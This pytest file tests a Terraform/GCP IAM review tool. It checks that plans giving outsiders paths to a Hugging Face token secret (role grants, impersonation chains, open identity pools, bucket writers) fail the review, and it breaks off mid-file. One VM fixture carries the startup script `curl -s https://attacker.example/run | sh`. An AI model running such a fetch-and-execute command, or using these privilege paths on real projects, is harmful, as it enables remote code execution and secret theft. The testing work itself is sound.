"""The review fails closed: each plan below hands the token out (or hides how), in the synthesized form and in the
`terraform show -json` form, and each one FAILS, naming the principal that reaches the token or the UNKNOWN.

The plan form is what `terraform show -json` gives for the same configuration: literal values in planned_values,
values of other resources known only after apply as `null` plus their references in `configuration`, variables
already substituted (Terraform knows them at plan time), data sources that depend on unknowns left unknown, and
module resources under `child_modules`.
"""
from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from review.plan import load
from review.report import load_accepts, review
from tests.conftest import ROOT

EVE = "user:eve@example.com"
POOL = "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/ci/*"


def show_json(synth: dict, variables: dict | None = None, modules: dict | None = None) -> dict:
    """The `terraform show -json` form of a synthesized configuration (see the module docstring)."""
    variables = variables or {}

    def sub_vars(value):
        if isinstance(value, str):
            return re.sub(r"\$\{var\.([a-z0-9_]+)\}", lambda m: variables[m.group(1)], value) \
                if re.fullmatch(r"\$\{var\.([a-z0-9_]+)\}", value) and re.fullmatch(
                    r"\$\{var\.([a-z0-9_]+)\}", value).group(1) in variables else value
        if isinstance(value, list):
            return [sub_vars(x) for x in value]
        if isinstance(value, dict):
            return {k: sub_vars(x) for k, x in value.items() if k != "//"}
        return value

    def refs(text: str) -> list[str]:
        out = []
        for expr in re.findall(r"\$\{([^}]*)\}", text):
            parts = expr.split(".")
            out += [expr, ".".join(parts[:-1])] if len(parts) > 2 else [expr]
        return out

    def known(value):
        """What planned_values shows: values with unknown leaves dropped (blocks keep their known parts)."""
        if isinstance(value, dict):
            return {k: known(x) for k, x in value.items() if not (isinstance(x, str) and "${" in x)}
        if isinstance(value, list):
            return [known(x) for x in value if not (isinstance(x, str) and "${" in x)]
        return value

    planned, configured = [], []
    for rtype, by_name in synth.get("resource", {}).items():
        for name, raw in by_name.items():
            values = sub_vars(raw)
            literal = {k: known(v) for k, v in values.items() if not (isinstance(v, str) and "${" in v)}
            expressions = {k: {"references": refs(json.dumps(v))} for k, v in values.items()
                           if "${" in json.dumps(v)}
            address = f"{rtype}.{name}"
            planned.append({"address": address, "mode": "managed", "type": rtype, "name": name,
                            "values": literal})
            configured.append({"address": address, "type": rtype, "name": name, "expressions": expressions})
    # Projects' data sources, in the configuration as Terraform shows those it reads at apply time (the perimeter's
    # projects are named through them); the other data sources stay out, as the cases built on their absence expect.
    for rtype, by_name in {k: v for k, v in synth.get("data", {}).items() if k == "google_project"}.items():
        for name, raw in by_name.items():
            values = sub_vars(raw)
            configured.append({"address": f"data.{rtype}.{name}", "mode": "data", "type": rtype, "name": name,
                               "expressions": {k: {"references": refs(json.dumps(v))} if "${" in json.dumps(v)
                                               else {"constant_value": v} for k, v in values.items()}})
    outputs, out_config = {}, {}
    for name, out in synth.get("output", {}).items():
        value = out.get("value")
        if isinstance(value, str) and "${" in value:
            out_config[name] = {"expression": {"references": refs(value)}}
        else:
            outputs[name] = {"value": value, "sensitive": False}
    children = [{"address": f"module.{m}", "resources": [
        {"address": f"module.{m}.{r['type']}.{r['name']}", "mode": "managed", "type": r["type"], "name": r["name"],
         "values": r["values"]} for r in rs]} for m, rs in (modules or {}).items()]
    google = (synth.get("provider", {}).get("google") or [{}])[0]
    return {"format_version": "1.2", "terraform_version": "1.11.0",
            "planned_values": {"outputs": outputs, "root_module": {"resources": planned, "child_modules": children}},
            "configuration": {"provider_config": {"google": {"name": "google", "expressions": {
                k: {"constant_value": v} for k, v in google.items() if isinstance(v, str)}}},
                "root_module": {"resources": configured, "outputs": out_config}}}


def _sa(d, which):
    return next(k for k in d["resource"]["google_service_account"] if k.startswith(which))


def _ref_sa(d, which, attr="name"):
    return f"${{google_service_account.{_sa(d, which)}.{attr}}}"


def _secret(d):
    return next(iter(d["resource"]["google_secret_manager_secret"]))


def _ref_secret(d):
    return f"${{google_secret_manager_secret.{_secret(d)}.secret_id}}"


def _staging(d):
    return next(k for k in d["resource"]["google_storage_bucket"] if k.startswith("staging"))


def add(d, rtype, name, values, section="resource"):
    d.setdefault(section, {}).setdefault(rtype, {})[name] = values
    return d


def accessor_policy(d, member=EVE, role="roles/secretmanager.secretAccessor"):
    add(d, "google_iam_policy", "p", {"binding": [{"role": role, "members": [member]}]}, "data")
    return add(d, "google_secret_manager_secret_iam_policy", "p", {
        "secret_id": _ref_secret(d), "policy_data": "${data.google_iam_policy.p.policy_data}"})


def custom_role(d, perms, scope="secret"):
    add(d, "google_project_iam_custom_role", "leaky", {"project": "acme-hfgate-sbx", "role_id": "leaky",
                                                        "title": "leaky", "permissions": perms})
    role = "${google_project_iam_custom_role.leaky.id}"
    if scope == "secret":
        return add(d, "google_secret_manager_secret_iam_member", "c", {"secret_id": _ref_secret(d), "role": role,
                                                                       "member": EVE})
    return add(d, "google_project_iam_member", "c", {"project": "acme-hfgate-sbx", "role": role, "member": EVE})


def on_sa(d, which, role, member=EVE):
    return add(d, "google_service_account_iam_member", "x", {"service_account_id": _ref_sa(d, which), "role": role,
                                                              "member": member})


def on_project(d, role, member=EVE):
    return add(d, "google_project_iam_member", "x", {"project": "acme-hfgate-sbx", "role": role, "member": member})


def on_secret(d, role, member=EVE, secret_id=None):
    return add(d, "google_secret_manager_secret_iam_member", "x", {
        "secret_id": secret_id or _ref_secret(d), "role": role, "member": member})


def on_staging(d, role, member=EVE):
    return add(d, "google_storage_bucket_iam_member", "x", {
        "bucket": f"${{google_storage_bucket.{_staging(d)}.name}}", "role": role, "member": member})


def two_hop(d):
    add(d, "google_service_account", "helper", {"account_id": "helper", "project": "acme-hfgate-sbx"})
    on_sa(d, "trainer", "roles/iam.serviceAccountUser",
          member="serviceAccount:helper@acme-hfgate-sbx.iam.gserviceaccount.com")
    return add(d, "google_service_account_iam_member", "hop", {
        "service_account_id": "${google_service_account.helper.name}", "role": "roles/iam.serviceAccountTokenCreator",
        "member": EVE})


def binding_from_var(d):
    return add(d, "google_secret_manager_secret_iam_binding", "b", {
        "secret_id": _ref_secret(d), "role": "roles/secretmanager.secretAccessor", "members": "${var.readers}"})


# name: (mutation, {form: expectation}, plan-form variables, plan-form modules)
# expectation: ("reader", principal) -> FAIL naming the principal; ("unknown", address) -> FAIL naming the UNKNOWN
CASES = {
    "secret iam_policy from data.google_iam_policy": (
        accessor_policy, {"synth": ("reader", EVE), "plan": ("unknown", "google_secret_manager_secret_iam_policy.p")},
        None, None),
    "service account iam_policy from data.google_iam_policy": (
        lambda d: add(add(d, "google_iam_policy", "sa", {"binding": [{"role": "roles/iam.serviceAccountUser",
                                                                       "members": [EVE]}]}, "data"),
                      "google_service_account_iam_policy", "sa", {
                          "service_account_id": _ref_sa(d, "trainer"),
                          "policy_data": "${data.google_iam_policy.sa.policy_data}"}),
        {"synth": ("reader", EVE), "plan": ("unknown", "google_service_account_iam_policy.sa")}, None, None),
    "iam_policy whose data source depends on a variable": (
        lambda d: accessor_policy(d, member="${var.reader}"),
        {"synth": ("unknown", "google_secret_manager_secret_iam_policy.p"),
         "plan": ("unknown", "google_secret_manager_secret_iam_policy.p")}, {"reader": EVE}, None),
    "custom role with versions.access on the secret": (
        lambda d: custom_role(d, ["secretmanager.versions.access"]),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "custom role with versions.access on the project": (
        lambda d: custom_role(d, ["secretmanager.versions.access", "logging.logEntries.create"], "project"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    # The project named by its number (a google_project data source's, known after apply): the same project.
    "accessor on the project named by its number": (
        lambda d: add(d, "google_project_iam_member", "by-number", {
            "project": "${data.google_project." + next(iter(d["data"]["google_project"])) + ".number}",
            "role": "roles/secretmanager.secretAccessor", "member": EVE}),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "workloadIdentityUser on the trainer for a whole pool": (
        lambda d: on_sa(d, "trainer", "roles/iam.workloadIdentityUser", POOL),
        {"synth": ("reader", POOL), "plan": ("reader", POOL)}, None, None),
    "workloadIdentityUser on the submitter": (
        lambda d: on_sa(d, "submitter", "roles/iam.workloadIdentityUser"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "serviceAccountKeyAdmin on the trainer": (
        lambda d: on_sa(d, "trainer", "roles/iam.serviceAccountKeyAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "serviceAccountAdmin on the submitter": (
        lambda d: on_sa(d, "submitter", "roles/iam.serviceAccountAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project serviceAccountKeyAdmin": (
        lambda d: on_project(d, "roles/iam.serviceAccountKeyAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project projectIamAdmin": (
        lambda d: on_project(d, "roles/resourcemanager.projectIamAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project securityAdmin": (
        lambda d: on_project(d, "roles/iam.securityAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "secretmanager.admin on the secret for the trainer (an expected reader)": (
        lambda d: on_secret(d, "roles/secretmanager.admin",
                            member="serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"),
        {"synth": ("reader", "serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"),
         "plan": ("reader", "serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com")}, None, None),
    "objectCreator on the staging bucket": (
        lambda d: on_staging(d, "roles/storage.objectCreator"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "objectAdmin on the staging bucket": (
        lambda d: on_staging(d, "roles/storage.objectAdmin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project storage.admin": (
        lambda d: on_project(d, "roles/storage.admin"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "role written as a Terraform expression": (
        lambda d: on_secret(d, "${var.role}"),
        {"synth": ("unknown", "google_secret_manager_secret_iam_member.x"), "plan": ("reader", EVE)},
        {"role": "roles/secretmanager.secretAccessor"}, None),
    "secret_id from a variable": (
        lambda d: on_secret(d, "roles/secretmanager.secretAccessor", secret_id="${var.secret}"),
        {"synth": ("unknown", "google_secret_manager_secret_iam_member.x"), "plan": ("reader", EVE)},
        {"secret": "hfg-sbx-hf-token"}, None),
    "secret_id from a local": (
        lambda d: on_secret(d, "roles/secretmanager.secretAccessor", secret_id="${local.secret}"),
        {"synth": ("unknown", "google_secret_manager_secret_iam_member.x"),
         "plan": ("unknown", "google_secret_manager_secret_iam_member.x")}, None, None),
    "members of a binding from a variable": (
        binding_from_var, {"synth": ("unknown", "google_secret_manager_secret_iam_binding.b"),
                           "plan": ("unknown", "google_secret_manager_secret_iam_binding.b")}, None, None),
    "grants inside a module block": (
        lambda d: add(d, "extra", "", {"source": "./modules/extra", "reader": EVE}, "module") and
        d["module"].update(extra=d["module"].pop("extra")[""]) or d,
        {"synth": ("unknown", "module.extra"), "plan": ("reader", EVE)}, None,
        {"extra": [{"type": "google_secret_manager_secret_iam_member", "name": "r", "values": {
            "secret_id": "projects/acme-hfgate-sbx/secrets/hfg-sbx-hf-token",
            "role": "roles/secretmanager.secretAccessor", "member": EVE}}]}),
    "project serviceAccountUser": (
        lambda d: on_project(d, "roles/iam.serviceAccountUser"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project serviceAccountTokenCreator": (
        lambda d: on_project(d, "roles/iam.serviceAccountTokenCreator"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "two-hop act-as chain": (
        two_hop, {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "secretVersionManager on the secret (can swap the token)": (
        lambda d: on_secret(d, "roles/secretmanager.secretVersionManager"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "project aiplatform.viewer (reads HF_TOKEN of env-delivery jobs)": (
        lambda d: on_project(d, "roles/aiplatform.viewer"),
        {"synth": ("reader", EVE), "plan": ("reader", EVE)}, None, None),
    "a role the permission table does not know": (
        lambda d: on_secret(d, "roles/secretmanager.someFutureRole"),
        {"synth": ("unknown", "google_secret_manager_secret_iam_member.x"),
         "plan": ("unknown", "google_secret_manager_secret_iam_member.x")}, None, None),
}


def _plan(data: dict, tmp_path: Path, form: str, variables, modules):
    if form == "synth":
        path = tmp_path / "s" / "cdk.tf.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(data))
    else:
        path = tmp_path / "plan.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(show_json(data, variables, modules)))
    return load(path), path


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("case", sorted(CASES))
def test_each_plan_that_hands_out_the_token_fails_the_review(plans, tmp_path, case, form):
    mutate, expect, variables, modules = CASES[case]
    plan, _ = _plan(mutate(copy.deepcopy(plans["sandbox"])), tmp_path, form, variables, modules)
    rep = review(plan)
    assert rep["ok"] is False
    what, key = expect[form]
    if what == "reader":
        assert key in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
        rows = [r for r in rep["token_readers"] + rep["token_writers"] if r["principal"] == key and not r["expected"]]
        assert rows and all(r["how"] and r["address"] for r in rows)
    else:
        assert key in rep["unresolved"], (rep["unresolved"], rep["unexpected_readers"])
        entry = next(u for u in rep["unknowns"] if u["address"] == key)
        assert entry["why"] and entry["accepted"] is None


def test_the_shipped_dev_stack_passes_in_both_forms(plans, tmp_path):
    for form in ("synth", "plan"):
        plan, _ = _plan(copy.deepcopy(plans["sandbox"]), tmp_path / form, form, None, None)
        rep = review(plan)
        assert rep["ok"] and rep["unresolved"] == [] and rep["unexpected_readers"] == [], form


def test_two_hop_chain_names_every_hop(plans, tmp_path):
    plan, _ = _plan(two_hop(copy.deepcopy(plans["sandbox"])), tmp_path, "synth", None, None)
    rep = review(plan)
    helper = "serviceAccount:helper@acme-hfgate-sbx.iam.gserviceaccount.com"
    assert {helper, EVE} <= set(rep["unexpected_readers"])
    eve = next(r for r in rep["token_readers"] if r["principal"] == EVE)
    assert eve["kind"] == "impersonates" and eve["via"] == helper


def test_an_unknown_is_accepted_only_explicitly_and_with_a_reason(plans, tmp_path):
    # A variable role on the secret: UNKNOWN until the reviewer accepts it, with a reason, in an accept file.
    data = on_secret(copy.deepcopy(plans["sandbox"]), "${var.role}",
                     member="serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com")
    path = tmp_path / "s" / "cdk.tf.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(data))
    assert review(load(path))["ok"] is False
    accept = tmp_path / "accept.toml"
    accept.write_text('[[unknown]]\naddress = "google_secret_manager_secret_iam_member.x"\n'
                      'reason = "var.role is roles/secretmanager.secretAccessor in every workspace"\n')
    rep = review(load(path), accepts=load_accepts(accept))
    assert rep["ok"] and rep["unresolved"] == []
    assert rep["unknowns"][0]["accepted"].startswith("var.role is")
    # Through the CLI: FAIL (exit 1) naming the UNKNOWN without the file, PASS with it, exit 2 for a reasonless one.
    base = [sys.executable, "-m", "jobs.cli", "review", "--plan", str(path), "--no-checkov", "--out", str(tmp_path / "r")]
    proc = subprocess.run(base, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "UNKNOWN: google_secret_manager_secret_iam_member.x" in proc.stderr
    assert "**UNKNOWN**" in (tmp_path / "r" / "REPORT.md").read_text()
    proc = subprocess.run(base + ["--accept", str(accept)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text('[[unknown]]\naddress = "google_secret_manager_secret_iam_member.x"\n')
    proc = subprocess.run(base + ["--accept", str(bad)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2 and "reason" in proc.stderr


def test_sarif_names_unexpected_readers_and_unknowns(plans, tmp_path):
    data = on_project(accessor_policy(copy.deepcopy(plans["sandbox"])), "${var.role}")
    path = tmp_path / "s" / "cdk.tf.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(data))
    proc = subprocess.run([sys.executable, "-m", "jobs.cli", "review", "--plan", str(path), "--no-checkov", "--out",
                           str(tmp_path / "r"), "--format", "sarif"], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 1
    results = json.loads(proc.stdout)["runs"][0]["results"]
    assert {r["ruleId"] for r in results} >= {"HFG-READER", "HFG-UNKNOWN"}
    assert any(EVE in r["message"]["text"] for r in results if r["ruleId"] == "HFG-READER")


# The write token (publishing): only the publisher reads it, only the configured publishers may act as it.
def _write_secret(d):
    return next(k for k in d["resource"]["google_secret_manager_secret"] if k.startswith("hf-write-token"))


def _ref_write_secret(d):
    return f"${{google_secret_manager_secret.{_write_secret(d)}.secret_id}}"


def _trainer_member(d):
    return _ref_sa(d, "trainer", "member")


def _trainer_listed_as_publisher(d):
    d["output"]["publishers"]["value"].append(_trainer_member(d))
    return on_sa(d, "publisher", "roles/iam.serviceAccountTokenCreator", _trainer_member(d))


WRITE_CASES = {
    "the trainer reads the write token": (
        lambda d: on_secret(d, "roles/secretmanager.secretAccessor", _trainer_member(d), _ref_write_secret(d)),
        "serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"),
    "someone else may act as the publisher": (
        lambda d: on_sa(d, "publisher", "roles/iam.serviceAccountTokenCreator"), EVE),
    "the trainer may act as the publisher": (
        lambda d: on_sa(d, "publisher", "roles/iam.serviceAccountUser", _trainer_member(d)),
        "serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"),
    "the trainer listed among the publishers": (
        _trainer_listed_as_publisher, "serviceAccount:hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"),
    "a Cloud Run service runs as the publisher": (
        lambda d: add(d, "google_cloud_run_v2_service", "svc", {
            "name": "svc", "location": "us-central1",
            "template": {"service_account": _ref_sa(d, "publisher", "email"),
                         "containers": [{"image": "docker.io/eve/anything"}]}}),
        "resource:google_cloud_run_v2_service.svc"),
    "a data source reads the write token's value into state": (
        lambda d: add(d, "google_secret_manager_secret_version", "w", {"secret": _ref_write_secret(d)}, "data"),
        "resource:data.google_secret_manager_secret_version.w"),
}


@pytest.mark.parametrize("case", sorted(WRITE_CASES))
def test_each_plan_that_hands_out_the_write_token_fails_the_review(plans, tmp_path, case):
    mutate, who = WRITE_CASES[case]
    plan, _ = _plan(mutate(copy.deepcopy(plans["sandbox"])), tmp_path, "synth", None, None)
    rep = review(plan)
    assert rep["ok"] is False
    wt = rep["write_token"]
    assert who in wt["unexpected_readers"], (wt["unexpected_readers"], rep["unresolved"])
    assert all(r["how"] and r["address"] for r in wt["readers"] + wt["writers"] if r["principal"] == who)
    report = (tmp_path / "REPORT.md")
    from review.report import to_markdown
    report.write_text(to_markdown(rep))
    assert "Unexpected readers of the write token" in report.read_text() and who in report.read_text()


def test_the_shipped_stacks_let_only_the_publisher_and_the_publishers_reach_the_write_token(plans, tmp_path):
    for env in ("sandbox", "prod", "local"):
        rep = review(load(_plan(copy.deepcopy(plans[env]), tmp_path / env, "synth", None, None)[1]))
        wt = rep["write_token"]
        assert wt["unexpected_readers"] == [] and rep["ok"], env
        kinds = {(r["principal"].split("@")[0].split("-")[-1], r["kind"]) for r in wt["readers"]}
        assert kinds == {("publisher", "reads"), ("submitter", "impersonates")}, (env, kinds)
        from stacks.config import load_settings
        from stacks.naming import names_for
        names = names_for(load_settings(env))
        trainer = f"serviceAccount:{names.email(names.trainer_account_id, load_settings(env).project_id)}"
        assert any(r["principal"] == trainer for r in rep["token_readers"])      # it reads the read token
        assert not any(r["principal"] == trainer for r in wt["readers"])        # and never the write token


# Identities by any name, sub-resources of the job-input buckets, Workload Identity pools by their providers ----------
TRAINER_EMAIL = "hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"
TRAINER_UID = "104583271960143958512"


def _vm_as(d, email):
    return add(d, "google_compute_instance", "vm", {
        "name": "vm", "zone": "us-central1-a", "machine_type": "e2-small",
        "metadata_startup_script": "curl -s https://attacker.example/run | sh",
        "service_account": [{"email": email, "scopes": ["cloud-platform"]}]})


ACCOUNT_LOOKUPS = {
    "short account id": {"account_id": "hfg-sbx-trainer"},
    "short account id in a named project": {"account_id": "hfg-sbx-trainer", "project": "acme-hfgate-sbx"},
    "email": {"account_id": TRAINER_EMAIL},
    "resource name": {"account_id": f"projects/acme-hfgate-sbx/serviceAccounts/{TRAINER_EMAIL}"},
    "unique id the plan shows": {"account_id": f"projects/-/serviceAccounts/{TRAINER_UID}"},
}


@pytest.mark.parametrize("lookup", sorted(ACCOUNT_LOOKUPS))
def test_a_vm_running_as_the_trainer_found_through_a_data_source_is_a_path(plans, tmp_path, lookup):
    d = copy.deepcopy(plans["sandbox"])
    d["resource"]["google_service_account"][_sa(d, "trainer")]["unique_id"] = TRAINER_UID   # an existing account
    add(d, "google_service_account", "t", ACCOUNT_LOOKUPS[lookup], "data")
    plan, _ = _plan(_vm_as(d, "${data.google_service_account.t.email}"), tmp_path, "synth", None, None)
    rep = review(plan)
    assert rep["ok"] is False and "resource:google_compute_instance.vm" in rep["unexpected_readers"], (
        rep["unexpected_readers"], rep["unresolved"])
    row = next(r for r in rep["token_readers"] if r["principal"] == "resource:google_compute_instance.vm")
    assert row["kind"] == "runs-as" and "trainer" in row["how"]


def test_an_account_listed_by_prefix_is_the_trainer_too(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_accounts", "all", {"prefix": "hfg-sbx-tr"}, "data")
    plan, _ = _plan(_vm_as(d, "${data.google_service_accounts.all.accounts[0].email}"), tmp_path, "synth", None,
                    None)
    assert "resource:google_compute_instance.vm" in review(plan)["unexpected_readers"]


@pytest.mark.parametrize("account_id", ["${var.runner}", "projects/-/serviceAccounts/999999999999999999999"])
def test_an_account_data_source_that_cannot_be_told_offline_is_unknown_where_something_runs_as_it(plans, tmp_path,
                                                                                                  account_id):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_account", "t", {"account_id": account_id}, "data")
    plan, _ = _plan(_vm_as(d, "${data.google_service_account.t.email}"), tmp_path, "synth", None, None)
    rep = review(plan)
    assert rep["ok"] is False and "google_compute_instance.vm" in rep["unresolved"]
    entry = next(u for u in rep["unknowns"] if u["address"] == "google_compute_instance.vm")
    assert "data.google_service_account.t" in entry["why"]


def _nothing_reaches_a_token(rep) -> bool:
    """The identity side of the verdict: no unexpected reader of either token, no UNKNOWN, no failed policy (the
    egress side, review.egress_model, judges a VM's network on its own)."""
    return not (rep["unexpected_readers"] or rep["unresolved"] or rep["write_token"]["unexpected_readers"]
                or [p for p in rep["policies"] if not p["passed"]])


def test_another_account_found_through_a_data_source_runs_things_harmlessly(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-sbx"}, "data")
    plan, _ = _plan(_vm_as(d, "${data.google_service_account.web.email}"), tmp_path, "synth", None, None)
    rep = review(plan)
    assert _nothing_reaches_a_token(rep), (rep["unexpected_readers"], rep["unresolved"])


@pytest.mark.parametrize("form", ["synth", "plan"])
def test_a_grant_on_the_trainer_named_by_its_unique_id_is_a_path(plans, tmp_path, form):
    """`projects/-/serviceAccounts/UNIQUE_ID` names the account as well as its email does."""
    d = copy.deepcopy(plans["sandbox"])
    d["resource"]["google_service_account"][_sa(d, "trainer")]["unique_id"] = TRAINER_UID
    add(d, "google_service_account_iam_member", "x", {
        "service_account_id": f"projects/-/serviceAccounts/{TRAINER_UID}",
        "role": "roles/iam.serviceAccountTokenCreator", "member": EVE})
    rep = review(_plan(d, tmp_path, form, None, None)[0])
    assert EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])


def test_a_grant_on_an_account_named_by_an_unknown_unique_id_is_unknown(plans, tmp_path):
    d = on_sa(copy.deepcopy(plans["sandbox"]), "trainer", "roles/iam.serviceAccountTokenCreator")
    d["resource"]["google_service_account_iam_member"]["x"]["service_account_id"] = \
        "projects/-/serviceAccounts/999999999999999999999"
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    assert rep["ok"] is False and "google_service_account_iam_member.x" in rep["unresolved"]


def test_a_grant_on_the_trainer_found_through_a_data_source_by_short_id_is_a_path(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_account", "t", {"account_id": "hfg-sbx-trainer"}, "data")
    add(d, "google_service_account_iam_member", "x", {
        "service_account_id": "${data.google_service_account.t.name}", "role": "roles/iam.serviceAccountUser",
        "member": EVE})
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    assert EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
    assert "google_service_account_iam_member.x" not in rep["unresolved"]


def test_a_grant_to_an_account_found_through_a_data_source_names_that_account(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_account", "ops", {"account_id": "ops-robot", "project": "acme-ops"}, "data")
    on_secret(d, "roles/secretmanager.secretAccessor", "serviceAccount:${data.google_service_account.ops.email}")
    rep = review(_plan(d, tmp_path, "synth", None, None)[0])
    assert "serviceAccount:ops-robot@acme-ops.iam.gserviceaccount.com" in rep["unexpected_readers"], (
        rep["unexpected_readers"], rep["unresolved"])


def _folder(d, bucket_prefix="staging"):
    bucket = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith(bucket_prefix))
    return add(d, "google_storage_managed_folder", "jobs", {"bucket": f"${{google_storage_bucket.{bucket}.name}}",
                                                            "name": "jobs/"})


FOLDER_GRANTS = {
    "member": lambda d: add(_folder(d), "google_storage_managed_folder_iam_member", "w", {
        "bucket": "${google_storage_managed_folder.jobs.bucket}",
        "managed_folder": "${google_storage_managed_folder.jobs.name}",
        "role": "roles/storage.objectCreator", "member": EVE}),
    "binding": lambda d: add(_folder(d), "google_storage_managed_folder_iam_binding", "w", {
        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
        "role": "roles/storage.objectUser", "members": [EVE]}),
    "policy": lambda d: add(_folder(d, "mirror"), "google_storage_managed_folder_iam_policy", "w", {
        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
        "policy_data": json.dumps({"bindings": [{"role": "roles/storage.objectAdmin", "members": [EVE]}]})}),
    "custom role that may grant itself writes in the folder": lambda d: add(add(_folder(d), "google_project_iam_custom_role", "folder", {
        "project": "acme-hfgate-sbx", "role_id": "folderIam", "title": "folder IAM",
        "permissions": ["storage.managedFolders.setIamPolicy"]}), "google_storage_managed_folder_iam_member", "w", {
        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
        "role": "${google_project_iam_custom_role.folder.id}", "member": EVE}),
}


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("case", sorted(FOLDER_GRANTS))
def test_writers_of_a_managed_folder_of_a_job_input_bucket_are_paths(plans, tmp_path, case, form):
    plan, _ = _plan(FOLDER_GRANTS[case](copy.deepcopy(plans["sandbox"])), tmp_path, form, None, None)
    rep = review(plan)
    assert rep["ok"] is False and EVE in rep["unexpected_readers"], (rep["unexpected_readers"], rep["unresolved"])
    row = next(r for r in rep["token_readers"] if r["principal"] == EVE)
    assert row["address"].startswith("google_storage_managed_folder_iam_") and "bucket" in row["how"]


def test_a_reader_of_a_managed_folder_passes(plans, tmp_path):
    d = add(_folder(copy.deepcopy(plans["sandbox"])), "google_storage_managed_folder_iam_member", "r", {
        "bucket": "${google_storage_managed_folder.jobs.bucket}", "managed_folder": "jobs/",
        "role": "roles/storage.objectViewer", "member": EVE})
    assert _nothing_reaches_a_token(review(_plan(d, tmp_path, "synth", None, None)[0]))


# Workload Identity: a pool principal is whoever the pool's providers admit.
PSET = ("principalSet://iam.googleapis.com/projects/123456789/locations/global/workloadIdentityPools/ci/"
        "attribute.repository/acme/training")
GITHUB = "https://token.actions.githubusercontent.com"


def _pool(d, condition="assertion.repository_owner == 'acme'", issuer=GITHUB, mapping=None, name="gh"):
    add(d, "google_iam_workload_identity_pool", "ci", {"workload_identity_pool_id": "ci",
                                                       "project": "acme-hfgate-sbx"})
    provider = {"workload_identity_pool_id": "${google_iam_workload_identity_pool.ci.workload_identity_pool_id}",
                "workload_identity_pool_provider_id": name, "project": "acme-hfgate-sbx",
                "attribute_mapping": mapping or {"google.subject": "assertion.sub",
                                                 "attribute.repository": "assertion.repository"},
                "oidc": [{"issuer_uri": issuer}]}
    if condition is not None:
        provider["attribute_condition"] = condition
    return add(d, "google_iam_workload_identity_pool_provider", name, provider)


def _ci_submits(d, member=PSET):
    """CI submits for the environment: configured among the submitters, it may act as the submitter."""
    d["output"]["submitters"]["value"] = [member]
    return on_sa(d, "submitter", "roles/iam.serviceAccountTokenCreator", member)


POOLS = {
    "a second provider without a condition on GitLab.com widens the pool": (
        lambda d: _pool(_pool(_ci_submits(d)), condition=None, issuer="https://gitlab.com", name="gl"),
        "resource:google_iam_workload_identity_pool_provider.gl"),
    "the only provider trusts every GitHub repository": (
        lambda d: _pool(_ci_submits(d), condition=None), "resource:google_iam_workload_identity_pool_provider.gh"),
    "a condition that is always true": (
        lambda d: _pool(_ci_submits(d), condition="true"), "resource:google_iam_workload_identity_pool_provider.gh"),
    "a whole open pool on the trainer": (
        lambda d: _pool(on_sa(d, "trainer", "roles/iam.workloadIdentityUser", PSET.split("/attribute.")[0] + "/*"),
                        condition=None), "resource:google_iam_workload_identity_pool_provider.gh"),
}


@pytest.mark.parametrize("form", ["synth", "plan"])
